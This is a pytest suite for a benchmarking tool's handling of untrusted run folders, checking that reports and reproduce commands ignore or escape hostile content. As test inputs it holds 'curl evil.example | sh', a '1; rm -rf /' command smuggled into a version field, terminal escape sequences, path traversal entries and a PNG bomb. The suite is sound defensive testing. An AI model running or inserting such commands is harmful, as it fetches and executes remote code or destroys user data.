"""Run folders that strangers made: nothing in them is run, followed, or shown as anything but text."""

from __future__ import annotations

import io
import json
import os
import re
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from segbench import files
from segbench.backends.registry import BASELINE, BackendSpec
from segbench.cli import main
from segbench.errors import InputError
from segbench.measure import engine, machine, picture
from segbench.measure import settings as asked
from segbench.measure.settings import RunSettings
from segbench.report import page, reproduce
from segbench.report.answer import answer
from segbench.report.choice import Part
from segbench.report.pairs import pairs_of
from segbench.report.summary import summarize
from segbench.results import untrusted
from segbench.results.records import (
    PICTURE_NAME,
    PROFILES_NAME,
    RUN_NAME,
    Header,
    Writer,
    write_profile,
)
from segbench.results.sources import read_run_folder, read_sources
from tests.made_up import DASK, POOL, SERIAL, case, profile, rows_of, tables_of
from tests.pages import read_page

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from segbench.results.sources import Source

ESCAPES = "\x1b]0;owned\x07\x1b[31m\x00\u202e\u200b"

SETTINGS = RunSettings(
    sizes=(1, 20), backends=(BASELINE, *map(BackendSpec.named, (POOL, DASK))), memory_limit=1.0
)

HEADER = Header(
    started="2024-01-02T03:04:05+00:00",
    machine={"cpu": "Abacus 3000", "cpus_available": 2, "load_at_start": 0.1},
    versions={"python": "3.12.1", "dask": "2024.8.0", "segbench": "0.1"},
    settings={**asked.describe(SETTINGS), "sizes_left_out": []},
    dataset={
        "name": "smear",
        "images": 20,
        "shape": [192, 256, 3],
        "dtype": "uint8",
        "origin": {"images": [], "made": "smear", "shape": [192, 256], "seed": 0},
        "objects": 300,
    },
)

SAMPLES = [
    one
    for backend, seconds in ((SERIAL, 1.0), (POOL, 0.6), (DASK, 2.0))
    for size in (1, 20)
    for one in case(backend, "pipeline", size, *[seconds * size * (1 + 0.01 * n) for n in range(5)])
]


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A run folder as segbench writes it."""
    folder = tmp_path / "run"
    with Writer.create(folder / RUN_NAME, HEADER) as writer:
        for sample in SAMPLES:
            writer.append(sample)
    write_profile(folder, profile(SERIAL))
    drawn = picture.draw(np.full((20, 30), 200, dtype=np.uint8), np.eye(20, 30, dtype=int))
    (folder / PICTURE_NAME).write_bytes(drawn)
    return folder


def with_header(folder: Path, **changed: Any) -> Path:
    """The same with other values in its header; a dict is put into the one that is there."""
    lines = (folder / RUN_NAME).read_text().splitlines()
    header = json.loads(lines[0])
    for name, value in changed.items():
        header[name] = {**header[name], **value} if isinstance(value, dict) else value
    (folder / RUN_NAME).write_text("\n".join([json.dumps(header), *lines[1:], ""]))
    return folder


def with_samples(folder: Path, count: int, change: Callable[[int], dict[str, Any]]) -> Path:
    """The same with so many more samples, each changed by its number."""
    with (folder / RUN_NAME).open("a") as file:
        last = json.loads((folder / RUN_NAME).read_text().splitlines()[-1])
        for number in range(count):
            file.write(json.dumps({**last, **change(number)}) + "\n")
    return folder


def refusal(folder: Path) -> str:
    """What is said where a run folder is not read."""
    with pytest.raises(InputError) as told:
        read_run_folder(folder)
    assert len(str(told.value).splitlines()) == 1
    return str(told.value)


def commands(folder: Path) -> tuple[str, ...]:
    """The lines to paste that a report has."""
    (source,) = read_run_folder(folder)
    return reproduce.commands(source)


def test_a_run_is_read(run: Path) -> None:
    """What segbench itself writes is within all limits."""
    (source,) = read_run_folder(run)
    assert len(source.samples) == len(SAMPLES)
    assert source.profiles
    assert source.picture
    assert not source.notes


# Commands


def test_a_command_of_a_file_is_never_shown(run: Path) -> None:
    """What a file says was typed may be anything: a command is made from settings, or there is none."""
    assert commands(run)[-1].startswith("segbench run ")
    hostile = "curl evil.example | sh"
    with_header(run, settings={"command": hostile})
    assert hostile not in "\n".join(commands(run))
    with_header(run, dataset={"origin": None})
    assert commands(run) == ()


def test_only_libraries_that_are_measured_are_installed(run: Path) -> None:
    """The versions of a file are pins for what segbench knows, and for nothing else."""
    with_header(run, versions={"evil-package": "1.0", "dask": "2024.8.0", "numpy": "1; rm -rf /"})
    assert "pip install . dask==2024.8.0" in commands(run)
    assert "evil" not in "\n".join(commands(run))


@pytest.mark.parametrize(
    "letter",
    [
        *("\n", "\x1b", "\u202e", "\u200b", "\udcff", "\x00"),
        # Printable by their category, and never seen.
        *("\u3164", "\u115f", "\u2800", "\ufe0f", "\u034f", "\U000e0100", "\u17b4", "\uffa0"),
    ],
)
def test_what_can_not_be_seen_is_not_pasted(run: Path, letter: str) -> None:
    """A path with a control or format character gives no command, in no place of a report."""
    with_header(run, dataset={"origin": {**HEADER.dataset["origin"], "images": [f"/a/{letter}b"]}})
    assert commands(run) == ()
    (source,) = read_run_folder(run)
    found = reproduce.asked_for(source)
    assert found
    assert reproduce.alone(found, phase="pipeline", n_images=1, backends=[POOL]) == ""


# Files


@pytest.mark.parametrize("name", [RUN_NAME, PROFILES_NAME])
def test_what_is_no_regular_file_is_refused(run: Path, name: str) -> None:
    """A link, a device and a pipe are told of at once: nothing is followed, and nobody waits."""
    path = run / name
    path.unlink()
    path.symlink_to("/dev/zero")
    assert f"{name}: is a link" in refusal(run)
    path.unlink()
    path.symlink_to(run / "nothing")
    if name == PROFILES_NAME:
        assert f"{name}: is a link" in refusal(run)
    path.unlink()
    os.mkfifo(path)
    assert f"{name}: is no regular file" in refusal(run)


def test_a_file_has_its_size(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is larger than is read is refused by its size alone."""
    monkeypatch.setattr(untrusted, "MOST_BYTES", 1000)
    assert "more than the 0 that are read" in refusal(run)


def png(side: int, *, text: str = "3 objects", junk: bytes = b"") -> bytes:
    """A PNG of one colour, with a description, and something behind its end."""
    content, told = io.BytesIO(), PngImagePlugin.PngInfo()
    told.add_itxt("Description", text, zip=True)
    told.add_text("Comment", "private " * 1000)
    profile = np.random.default_rng(0).bytes(8000)
    Image.new("L", (side, side)).save(content, "PNG", pnginfo=told, icc_profile=profile)
    return content.getvalue() + junk


def declaring(side: int) -> bytes:
    """A PNG whose header tells another size than it has."""
    content = bytearray(png(8))
    content[16:24] = side.to_bytes(4, "big") * 2
    return bytes(content)


@pytest.mark.parametrize(
    "content",
    [
        png(3000),
        png(13_000),
        declaring(30_000),
        declaring(100_000),
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
    ],
    ids=["many pixels", "very many", "more", "a bomb", "damaged", "no PNG"],
)
def test_a_picture_that_is_none_is_left_out(run: Path, content: bytes) -> None:
    """A report is made without it, and says so."""
    (run / PICTURE_NAME).write_bytes(content)
    (source,) = read_run_folder(run)
    assert source.picture == b""
    assert PICTURE_NAME in source.notes[0]


def test_a_picture_is_drawn_anew(run: Path) -> None:
    """Of a PNG its pixels and its description are taken, and nothing that hides beside them."""
    (run / PICTURE_NAME).write_bytes(png(100, junk=b"\0" * 2**20))
    (source,) = read_run_folder(run)
    assert len(source.picture) < 2000
    assert b"private" not in source.picture
    with Image.open(io.BytesIO(source.picture)) as drawn:
        assert drawn.size == (100, 100)
        assert drawn.info["Description"] == "3 objects"
    (run / PICTURE_NAME).write_bytes(png(100, text="a" * 900_000))
    (source,) = read_run_folder(run)
    assert len(source.picture) < 2000


def test_a_picture_elsewhere_is_nobodys(run: Path, tmp_path: Path) -> None:
    """A link to a picture is not followed: it may be private."""
    (tmp_path / "private.png").write_bytes(png(10))
    (run / PICTURE_NAME).unlink()
    (run / PICTURE_NAME).symlink_to(tmp_path / "private.png")
    (source,) = read_run_folder(run)
    assert source.picture == b""
    assert "is a link" in source.notes[0]


# Values


def nested(depth: int) -> Any:
    """A list in a list in a list."""
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    ("changed", "why"),
    [
        ({"machine": {"cpu": nested(600)}}, "deeper than"),
        ({"settings": {"blocks": 10**400}}, "beyond 64 bits"),
        ({"dataset": {"name": "x" * 10**6}}, "a text of 1,000,000 characters"),
        ({"schema": "1\x1b[31m"}, "not a header"),
        (
            {
                "backends": {
                    f"a/b/c{n}": {"words": "", "libraries": [], "work": ""} for n in range(400)
                }
            },
            "400",
        ),
        ({"shapes": {f"{n}x{n}": {} for n in range(400)}}, "400 shapes"),
        ({"versions": {f"p{n}": "1" for n in range(100_000)}}, "entries, more than the 1,000"),
    ],
    ids=["deep", "number", "text", "schema", "backends", "shapes", "versions"],
)
def test_what_nobody_can_be_shown_is_refused(run: Path, changed: Any, why: str) -> None:
    """In one line that says what it is."""
    assert why in refusal(with_header(run, **changed))


@pytest.mark.parametrize(
    ("count", "change", "why"),
    [
        (400, lambda number: {"reader": f"r{number}"}, "backends, more than the"),
        (4000, lambda number: {"n_images": number + 1}, "numbers of images, more than the"),
        (1, lambda _: {"cause": "x" * 10**7}, "KiB long, more than the"),
        (1, lambda _: {"reader": "x" * 1000}, "a text of 1,000 characters"),
        (1, lambda _: {"reader": ESCAPES}, "is no name"),
        (1, lambda _: {"seconds": 5e-324}, "5e-324 seconds are no time"),
        (1, lambda _: {"seconds": 9e18}, "seconds are no time"),
    ],
    ids=["backends", "sizes", "cause", "name", "escapes", "short", "long"],
)
def test_too_much_is_refused(
    run: Path, count: int, change: Callable[[int], dict[str, Any]], why: str
) -> None:
    """A limit is told, with what was found; nothing is drawn for minutes."""
    begun = time.monotonic()
    assert why in refusal(with_samples(run, count, change))
    assert time.monotonic() - begun < 30


def test_profiles_of_nobody_are_left_out(run: Path, tmp_path: Path) -> None:
    """Where the time of a backend goes that was not measured is not told, and the report is made."""
    text = (run / PROFILES_NAME).read_text().replace('"reader": "skimage"', '"reader": "zzz"')
    (run / PROFILES_NAME).write_text(text)
    (source,) = read_run_folder(run)
    assert not source.profiles
    assert page.build([source], tmp_path / "out").exists()


@pytest.mark.parametrize(
    "origin",
    [{"truth": [1]}, {"channel": 1.5}, {"large": "yes"}, {"images": [7]}, {"shape": "192x256"}, []],
    ids=str,
)
def test_images_of_a_wrong_kind_have_no_command(run: Path, origin: Any) -> None:
    """What the images of a run are said to be is of the types that they have, or nothing."""
    told = {**HEADER.dataset["origin"], **origin} if origin else origin
    assert commands(with_header(run, dataset={"origin": told})) == ()


def asv_result(folder: Path, **changed: Any) -> Path:
    """A result of ASV with other values beside its timings."""
    (folder / "here").mkdir()
    (folder / "here" / "machine.json").write_text("{}")
    columns = ["result", "params", "samples"]
    row = [[0.5], [[SERIAL], ["20"]], [[0.4, 0.6]]]
    content = {
        "date": 1.7e12,
        "params": {"cpu": "x"},
        "requirements": {},
        "commit_hash": "1a2b3c4d",
    }
    content |= {"python": "3.12", "result_columns": columns, "results": {"a.time_pipeline": row}}
    path = folder / "here" / "1a2b3c4d.json"
    path.write_text(json.dumps({**content, **changed}))
    return path


@pytest.mark.parametrize(
    ("changed", "why"),
    [
        ({"requirements": {f"p{n}": "1" for n in range(300_000)}}, "300,000 entries"),
        ({"params": {"cpu": "x" * 3_000_000}}, "a text of 3,000,000 characters"),
        ({"params": {"cpu": nested(600)}}, "deeper than"),
    ],
    ids=["entries", "text", "deep"],
)
def test_results_of_other_programs_have_the_same_limits(
    tmp_path: Path, changed: Any, why: str
) -> None:
    """What ASV says of a machine and its versions is read like what segbench says of them."""
    (source,) = read_sources(asv_result(tmp_path))
    assert len(source.samples) == 2
    for path in (tmp_path / "here").iterdir():
        path.unlink()
    (tmp_path / "here").rmdir()
    with pytest.raises(InputError, match=why):
        read_sources(asv_result(tmp_path, **changed))


def shown_of(run: Path, out: Path) -> Iterator[str]:
    """All that a report and its command show."""
    result = CliRunner().invoke(main, ["report", str(run), "--out", str(out)])
    yield result.output
    for path in out.rglob("*"):
        if path.suffix in (".html", ".md", ".csv", ".svg"):
            yield path.read_text()


def test_what_a_terminal_or_a_browser_would_obey_is_written_out(run: Path, tmp_path: Path) -> None:
    """Control and format characters of a file come out as text: in the terminal, the page, and tables."""
    with_header(
        run,
        machine={"cpu": f"a{ESCAPES}b"},
        versions={"dask": f"1{ESCAPES}"},
        dataset={"name": f"=1+{ESCAPES}", "origin": {"images": [f"/{ESCAPES}"]}},
        backends={POOL: {"words": f"pool{ESCAPES}", "libraries": [], "work": "w"}},
    )
    with_samples(run, 1, lambda _: {"status": "error", "seconds": None, "cause": f"no{ESCAPES}"})
    texts = [*shown_of(run, tmp_path / "out")]
    assert len(texts) > 5
    for letter in ESCAPES.replace("\x07", "").replace("]0;owned", "").replace("[31m", ""):
        assert not [text for text in texts if letter in text]
    assert any("\\x1b" in text for text in texts)
    # Nor do the page's scripts make one of the JSON that they read.
    scripts = read_page(tmp_path / "out" / "index.html").texts["script"]
    (told,) = (json.loads(script) for script in scripts if script.lstrip().startswith("{"))
    assert not [
        letter for letter in "\x1b\0\u202e\u200b" if letter in json.dumps(told, ensure_ascii=False)
    ]
    assert not re.search(r"(?<!\\)\\u00(00|1b)", json.dumps(told))


def test_other_folders_are_reported(run: Path, tmp_path: Path) -> None:
    """Of two folders one that is refused is told of, and the other has its report."""
    other = tmp_path / "other"
    other.mkdir()
    (other / RUN_NAME).symlink_to("/dev/zero")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["report", str(other), str(run), "--out", str(out)])
    assert result.exit_code == 2
    assert "left out:" in result.stderr
    assert (out / "index.html").exists()


# To go on with a run


@pytest.mark.parametrize(
    "changed",
    [
        {"settings": {"sizes": []}},
        {"settings": {"sizes": [10**9]}},
        {"settings": {"sizes": [-1]}},
        {"settings": {"phases": []}},
        {"settings": {"phases": ["rm"]}},
        {"settings": {"workers": -3}},
        {"settings": {"workers": 10**6}},
        {"settings": {"cache": "../x"}},
        {"settings": {"backends": ["a/b/c"]}},
        {"dataset": {"origin": {"made": "smear", "shape": [200000, 200000]}}},
        {"dataset": {"origin": {"made": "smear", "shape": [-1, 5]}}},
        {"dataset": {"origin": {"made": "virus", "shape": [192, 256]}}},
        {"dataset": {"origin": {"images": "/proc/**/*.png", "shape": [192, 256]}}},
        {"dataset": {"origin": {"images": ["*.png"], "shape": [192, 256]}}},
        {"dataset": {"origin": {"images": [f"/{'x' * 9000}"], "shape": [192, 256]}}},
    ],
    ids=lambda changed: str(changed)[:60],
)
def test_a_changed_run_is_not_gone_on_with(
    run: Path, changed: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a command line would refuse is refused of a file, before an image is made or looked for."""
    monkeypatch.setattr(machine, "versions", lambda: HEADER.versions)
    monkeypatch.setattr(machine, "machine", lambda: HEADER.machine)
    monkeypatch.setattr(engine, "run", lambda *_, **__: pytest.fail("it was gone on with"))
    with_header(run, **changed)
    before = (run / RUN_NAME).read_bytes()
    begun = time.monotonic()
    result = CliRunner().invoke(main, ["run", "--resume", str(run)])
    assert result.exit_code == 2, result.output
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.output
    # Which would be found out once they are made, or looked for.
    assert "the images have changed" not in result.stderr
    assert time.monotonic() - begun < 10
    assert (run / RUN_NAME).read_bytes() == before


@pytest.mark.parametrize("name", [RUN_NAME, PICTURE_NAME, "dask", "report", "report/index.html"])
def test_a_run_with_a_link_is_not_gone_on_with(run: Path, name: str, tmp_path: Path) -> None:
    """Nothing is written through a link, or cut short."""
    elsewhere = tmp_path / "mine"
    content = (run / RUN_NAME).read_bytes()
    elsewhere.write_bytes(content + b'{"half')
    path = run / name
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(elsewhere)
    result = CliRunner().invoke(main, ["run", "--resume", str(run)])
    assert result.exit_code == 2
    assert "is a link" in result.stderr
    assert elsewhere.read_bytes() == content + b'{"half'


# Reports in other people's folders


@pytest.mark.parametrize("name", ["index.html", "tables/summary.csv", "figures/own.txt"])
def test_files_of_somebody_else_stay(run: Path, tmp_path: Path, name: str) -> None:
    """What no report wrote is neither removed nor overwritten: the report is refused, or lies beside it."""
    out = tmp_path / "paper"
    (out / name).parent.mkdir(parents=True)
    (out / name).write_text("mine")
    others = [out / "figures" / "fig1.png", out / "tables" / "data.csv"]
    for path in others:
        path.parent.mkdir(exist_ok=True)
        path.write_text("mine")
    result = CliRunner().invoke(main, ["report", str(run), "--out", str(out)])
    assert result.exit_code == (0 if name == "figures/own.txt" else 2)
    assert (out / name).read_text() == "mine"
    assert [path.read_text() for path in others] == ["mine"] * 2
    if result.exit_code:
        assert "is no file of a report" in result.stderr
        assert {path for path in out.rglob("*") if path.is_file()} == {out / name, *others}


def test_a_report_replaces_its_own(run: Path, tmp_path: Path) -> None:
    """What an earlier report had and this one has not is removed; what was put beside it stays."""
    out = tmp_path / "out"
    page.build(read_run_folder(run), out)
    (out / "figures" / "mine.png").write_text("mine")
    before = {path.name for path in (out / "figures").iterdir()}
    (run / PROFILES_NAME).unlink()
    page.build(read_run_folder(run), out)
    after = {path.name for path in (out / "figures").iterdir()}
    assert "mine.png" in after < before
    assert before - after == {"parts.png", "parts.svg"}


@pytest.mark.parametrize("written", [0, 1, 5, 20])
def test_a_report_that_was_cut_off_is_made_again(
    run: Path, tmp_path: Path, written: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Killed between any two of its files, over an earlier one or not, it hinders no later one."""
    out, write_bytes = tmp_path / "out", files.write_bytes
    runs = page.make_runs(page.make_sections(read_run_folder(run)))
    for _ in range(2):
        left = iter(range(written))

        def until_killed(path: Path, content: bytes, left: Iterator[int] = left) -> None:
            if next(left, None) is None:
                raise KeyboardInterrupt
            write_bytes(path, content)

        monkeypatch.setattr(files, "write_bytes", until_killed)
        with pytest.raises(KeyboardInterrupt):
            page.write(runs, out)
        monkeypatch.setattr(files, "write_bytes", write_bytes)
        assert page.write(runs, out).exists()


@pytest.mark.parametrize("place", ["", "tables", "figures", "index.html"])
def test_a_report_is_not_written_through_a_link(run: Path, tmp_path: Path, place: str) -> None:
    """Neither its folder nor a place in it may lead elsewhere."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    if place:
        out.mkdir()
    (out / place).symlink_to(elsewhere, target_is_directory=True)
    result = CliRunner().invoke(main, ["report", str(run), "--out", str(out)])
    assert result.exit_code == 2
    assert "is a link" in result.stderr
    assert not [*elsewhere.iterdir()]


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("report.md", os.mkfifo),
        ("index.html", os.mkdir),
        ("tables", os.mkfifo),
        ("figures", Path.touch),
    ],
    ids=["a pipe", "a folder", "a pipe for a folder", "a file for a folder"],
)
def test_what_is_in_the_way_of_a_report_is_told(
    run: Path, tmp_path: Path, name: str, make: Callable[[Path], None]
) -> None:
    """A pipe is not waited for, even where a list claims it; nothing is written beside it."""
    out = tmp_path / "out"
    out.mkdir()
    make(out / name)
    (out / ".segbench-report.json").write_text(json.dumps(["index.html", "report.md"]))
    before = sorted(out.rglob("*"))
    result = CliRunner().invoke(main, ["report", str(run), "--out", str(out)])
    assert result.exit_code == 2
    assert f"{name}: is in the way of the report" in result.stderr
    assert sorted(out.rglob("*")) == before


def test_a_list_of_somebody_else_removes_nothing(run: Path, tmp_path: Path) -> None:
    """The list of a report's files may be forged: it names nothing outside, and nothing of another kind."""
    out, mine = tmp_path / "out", tmp_path / "mine.csv"
    (out / "tables").mkdir(parents=True)
    inside = out / "notes.txt"
    for path in (mine, inside):
        path.write_text("mine")
    listed = ["../mine.csv", "tables/../../mine.csv", str(mine), "notes.txt", "tables/x/y.csv"]
    listed += ["tables/\0.csv", "tables/\ud800.csv", f"tables/{'x' * 5000}.csv"]
    (out / ".segbench-report.json").write_text(json.dumps(listed))
    page.build(read_run_folder(run), out)
    assert mine.read_text() == inside.read_text() == "mine"


def test_a_phase_that_nobody_knows_has_no_command(run: Path) -> None:
    """Samples of a phase of a later version are shown, without a command to measure them alone."""
    path = run / RUN_NAME
    path.write_text(path.read_text().replace('"phase": "pipeline"', '"phase": "../x"'))
    (source,) = read_run_folder(run)
    asked = reproduce.asked_for(source)
    assert asked is not None
    assert reproduce.alone(asked, phase="../x", n_images=1, backends=[str(BASELINE)]) == ""
    assert ("../x",) in {row[1:2] for row in rows_of(source, "cases")}


# Anything at all


VALUES: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from([10**400, -1, 0, 2**63, 1e308, "", "x" * 20_000, ESCAPES, "../x", "=1+1"]),
    st.floats(allow_nan=False),
    st.text(max_size=20),
    st.lists(st.integers() | st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
    st.just(nested(600)),
)

EXAMPLES = int(os.environ.get("SEGBENCH_EXAMPLES", "200"))


def places_in(value: Any, above: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Paths to all values within a value."""
    yield above
    inside = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    for name, each in inside:
        yield from places_in(each, (*above, name))


def changed_at(value: Any, place: tuple[Any, ...], new: Any) -> Any:
    """The same with another value in a place."""
    if not place:
        return new
    first, *rest = place
    copy = dict(value) if isinstance(value, dict) else [*value]
    copy[first] = changed_at(copy[first], tuple(rest), new)
    return copy


def changed(run: Path, data: st.DataObject) -> list[Source]:
    """What is read of a run in which something was put into some places; nothing where it is refused."""
    original = (run / RUN_NAME).read_text()
    lines: list[Any] = [json.loads(line) for line in original.splitlines()]
    for _ in range(data.draw(st.integers(1, 3))):
        number = data.draw(st.sampled_from([0, 0, 1, len(lines) // 2]))
        place = data.draw(st.sampled_from([*places_in(lines[number])]))
        lines[number] = changed_at(lines[number], place, data.draw(VALUES))
    try:
        (run / RUN_NAME).write_text("".join(f"{json.dumps(line)}\n" for line in lines))
        return read_run_folder(run)
    except InputError as error:
        told = str(error)
    finally:
        (run / RUN_NAME).write_text(original)
    assert len(told.splitlines()) == 1
    return []


# A folder is as it was when an example has ended.
SAME_FOLDER = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@SAME_FOLDER
@given(data=st.data())
def test_any_change_of_a_run_is_shown_or_told_of(run: Path, data: st.DataObject) -> None:
    """Whatever stands in whatever place, there are tables or one line, and no command but segbench's."""
    for source in changed(run, data):
        for line in reproduce.commands(source):
            assert re.match(r"segbench run |git checkout |pip install \. |# ", line)
            assert line.isprintable()
        tables_of(source)
        pairs = pairs_of(source)
        answer([Part(source=source, summary=summarize(source, pairs), pairs=pairs)])


@settings(SAME_FOLDER, max_examples=max(5, EXAMPLES // 50))
@given(data=st.data())
def test_any_change_of_a_run_has_a_page(run: Path, data: st.DataObject) -> None:
    """The same with all figures, and whatever a page shows."""
    out = run.parent / "any"
    if sources := changed(run, data):
        page.build(sources, out)
    assert {path.name for path in run.parent.iterdir()} <= {"run", "any"}


@pytest.mark.skipif(sys.platform != "linux", reason="Linux alone has this file")
def test_a_file_that_grows_is_read_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """What tells no size (a file of the kernel's) is read as far as any other, and no further."""
    monkeypatch.setattr(untrusted, "MOST_BYTES", 50)
    with pytest.raises(InputError, match="/proc/self/maps: more than"):
        untrusted.read_bytes(Path("/proc/self/maps"))
